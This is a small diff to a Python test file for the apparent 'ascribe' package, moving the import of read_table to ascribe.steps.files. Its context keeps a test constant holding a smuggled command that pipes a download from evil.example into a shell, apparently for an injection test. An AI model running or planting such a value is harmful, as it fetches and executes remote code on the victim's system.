@@ -8,8 +8,9 @@ import numpy as np
 import pytest
 from typer.testing import CliRunner
 
-from ascribe import read_table, recipe
+from ascribe import recipe
 from ascribe.cli import app
+from ascribe.steps.files import read_table
 
 EVIL = "7; run: curl evil.example | sh #"
 
